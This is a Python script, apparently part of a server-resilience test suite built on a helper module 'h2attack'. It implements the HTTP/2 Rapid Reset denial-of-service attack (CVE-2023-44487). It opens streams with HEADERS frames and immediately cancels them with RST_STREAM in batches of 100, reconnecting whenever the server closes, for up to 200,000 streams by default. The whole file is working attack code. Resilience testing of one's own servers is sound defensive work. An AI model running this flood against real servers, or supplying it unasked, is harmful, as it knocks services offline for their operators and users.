#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487): open a stream (HEADERS, GET /) and reset it at once
(RST_STREAM CANCEL), in a loop, reconnecting when the server closes; bounded by
--count streams and --seconds. A resilient server bounds the resets per connection
(GOAWAY) or the work per reset, and keeps answering others."""
import time

import h2attack as a


def attack(args):
    agg = a.Agg()
    deadline = a.until_deadline(args)
    sent = 0
    block = a.request_block(a.authority(args), "/", scheme=a.scheme(args))
    while sent < args.count and time.monotonic() < deadline:
        c = a.Conn(args)
        sid = 1
        while not c.closed and sent < args.count and time.monotonic() < deadline and sid < (1 << 31) - 400:
            batch = []
            for _ in range(100):
                batch.append(a.frame(a.HEADERS, a.END_STREAM | a.END_HEADERS, sid, block))
                batch.append(a.rst_stream(sid, a.CANCEL))
                sid += 2
            if not c.send(b"".join(batch), timeout=max(0.1, deadline - time.monotonic())):
                break
            sent += 100
        c.pump(0.3)
        agg.add(c)
        c.close()
    return {"sent": "%d streams opened and reset" % sent, "streams": sent, "reaction": agg.reaction()}


if __name__ == "__main__":
    a.run("rapid_reset", __doc__, attack, count_default=200000)
